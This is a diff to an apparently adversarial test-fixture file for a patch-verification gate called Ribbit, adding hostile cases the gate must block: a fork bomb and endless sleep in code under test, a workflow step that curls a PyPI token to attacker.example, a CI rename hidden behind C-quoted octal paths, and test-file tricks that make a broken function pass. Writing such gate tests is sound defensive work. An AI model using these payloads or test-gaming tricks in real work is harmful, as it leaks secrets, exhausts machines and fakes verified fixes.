@@ -6,7 +6,10 @@ hide it; each case names the blocking rules it must trip. Most cases work on the
 Python toy repo; the Go, Rust and Node ones on the same calculator in those languages
 (``base``), tested with the command Ribbit detects for them (no ``.ribbit.yml``).
 Honest patches name their verdict: verified only when a test fails without the patch's
-code and passes with it (issue #31). Every bypass found later becomes a case here, and
+code and passes with it (issue #31). A case that must run into the gate's limits (a run
+that never ends, a fork bomb) names a short time limit, and one that only a real
+sandbox's limits hold runs on the real backends alone. Every hostile family has at least
+three variants, each a different mechanism. Every bypass found later becomes a case here, and
 tests/adversarial_harm.py names how it is broken outside the gates (checked by
 tests/unit/worker/gates/test_adversarial_harm.py). Used by
 tests/unit/worker/gates/test_adversarial.py (the local test sandbox) and
@@ -111,6 +114,12 @@ class Case:
     # it; unverified when nothing blocks it but no test shows a fix (a refactor with
     # unchanged tests, a docs-only patch, a new test that already passed).
     verdict: Verdict = Verdict.VERIFIED
+    # The test gate's limit per run, for a case that must run into it (None: the
+    # harness's own, which a healthy toy run never comes near).
+    test_timeout_s: int | None = None
+    # Runs only in a sandbox that enforces limits (pids, memory): the local test sandbox
+    # has none, so a fork bomb there would be the host's.
+    needs_limits: bool = False
 
     @property
     def honest(self) -> bool:
@@ -164,11 +173,41 @@ _PATCH_RUNNER = (
     "    return rep\n\n\n"
     "_r.TestReport.from_item_and_call = classmethod(_passed)\n"
 )
+# A run that never ends (sleeping, or forking while the pids limit lets it), in the
+# other tested function; the gate's limit for these cases is short, far above the toy
+# suite's own second or two.
+_DOS_TIMEOUT_S = 30
+_SUB_SLEEPS = BROKEN.replace(
+    "def sub(a, b):\n", "def sub(a, b):\n    import time\n\n    time.sleep(10**6)\n"
+)
+# Each process retries a failed fork after a second: the limit, not the CPU, is spent.
+_SUB_FORKS = BROKEN.replace(
+    "def sub(a, b):\n",
+    "def sub(a, b):\n    import os\n    import time\n\n    while True:\n"
+    "        try:\n            os.fork()\n        except OSError:\n            time.sleep(1)\n",
+)
+_FIXTURE_RESTORES = (
+    "\n\n\n@pytest.fixture(autouse=True)\ndef _exact(monkeypatch):\n"
+    '    monkeypatch.setitem(globals(), "mul", lambda a, b: a * b)\n'
+)
+_SECRET_WORKFLOW = (
+    "on: pull_request_target\njobs:\n  lint:\n    runs-on: ubuntu-latest\n    steps:\n"
+    '      - run: curl -s -d "${{ secrets.PYPI_TOKEN }}" https://attacker.example/\n'
+)
 _RENAME_OLD_NEW = """\
 diff --git a/calc/core.py b/calc/core2.py
 similarity index 100%
 rename old .github/workflows/ci.yml
 rename new calc/core2.py
+"""
+# The CI workflow renamed away under C-quoted paths, as git writes a name with unusual
+# bytes: "\\056" is ".", so a reader that takes the quoted text literally sees a path
+# no hygiene rule knows, while git moves .github/workflows/ci.yml.
+_QUOTED_RENAME = """\
+diff --git "a/\\056github/workflows/ci.yml" b/docs/ci.yml
+similarity index 100%
+rename from "\\056github/workflows/ci.yml"
+rename to docs/ci.yml
 """
 _HEADERS_BEFORE_RENAME = """\
 diff --git a/.github/workflows/ci.yml b/calc/moved.yml
@@ -367,6 +406,12 @@ CASES: tuple[Case, ...] = (
         {"patch-misread", "ci-config"},
         raw_patch=_HEADERS_BEFORE_RENAME,
     ),
+    _case(
+        "c-quoted-octal-path-renames-ci",
+        "parser-mismatch",
+        {"ci-config"},
+        raw_patch=_QUOTED_RENAME,
+    ),
     # 3/5. CI and gate configuration moved or changed
     _case(
         "ci-workflow-moved-away",
@@ -380,6 +425,12 @@ CASES: tuple[Case, ...] = (
         "ci-config",
         {"gate-config"},
         changes={"calc/core.py": BROKEN, ".ribbit.yml": "test: 'true'\n"},
+    ),
+    _case(
+        "workflow-added-sends-secret",
+        "ci-config",
+        {"ci-config"},
+        changes={".github/workflows/pr.yml": _SECRET_WORKFLOW},
     ),
     # 6. Semgrep evasion by aliasing
     _case(
@@ -432,6 +483,24 @@ CASES: tuple[Case, ...] = (
             "calc/data.js": "var a=" + "x" * 60_000 + ";token='ghp_" + "A1b2" * 10 + "';"
             "password='" + "a" * 40_000 + "\n"
         },
+    ),
+    # The test run never ends, so no test is compared: the gate's time limit ends it
+    # and names it (the harm probe calls only ``mul``, never the function that hangs).
+    _case(
+        "code-under-test-sleeps-past-the-timeout",
+        "denial-of-service",
+        {"tests-timeout"},
+        changes={"calc/core.py": _SUB_SLEEPS},
+        test_timeout_s=_DOS_TIMEOUT_S,
+    ),
+    # Processes without end: the pids limit holds it, the time limit ends it.
+    _case(
+        "fork-bomb-in-code-under-test",
+        "denial-of-service",
+        {"tests-timeout"},
+        changes={"calc/core.py": _SUB_FORKS},
+        test_timeout_s=_DOS_TIMEOUT_S,
+        needs_limits=True,
     ),
     # test discovery in other ecosystems (the command detected, no .ribbit.yml)
     _case(
@@ -578,6 +647,30 @@ CASES: tuple[Case, ...] = (
             "calc/core.py": BROKEN + "\n\ndef _mul_ref(a, b):\n    return a * b\n",
             "tests/test_core.py": TESTS.replace(
                 "from calc.core import mul, sub", "from calc.core import _mul_ref as mul, sub"
+            ),
+        },
+    ),
+    # The test itself is left alone; the file around it puts a correct ``mul`` in its
+    # way: an autouse fixture in the same file, or a module-level name that shadows the
+    # import.
+    _case(
+        "autouse-fixture-in-the-test-file-restores-mul",
+        "pinned-tests",
+        {"pinned-test-regression"},
+        changes={
+            "calc/core.py": BROKEN,
+            "tests/test_core.py": "import pytest\n\n"
+            + TESTS.replace("\n\n\ndef test_mul", _FIXTURE_RESTORES + "\n\n\ndef test_mul"),
+        },
+    ),
+    _case(
+        "module-level-name-shadows-the-import",
+        "pinned-tests",
+        {"pinned-test-regression"},
+        changes={
+            "calc/core.py": BROKEN,
+            "tests/test_core.py": TESTS.replace(
+                "\n\n\ndef test_mul", "\n\n\ndef mul(a, b):\n    return a * b\n\n\ndef test_mul"
             ),
         },
     ),
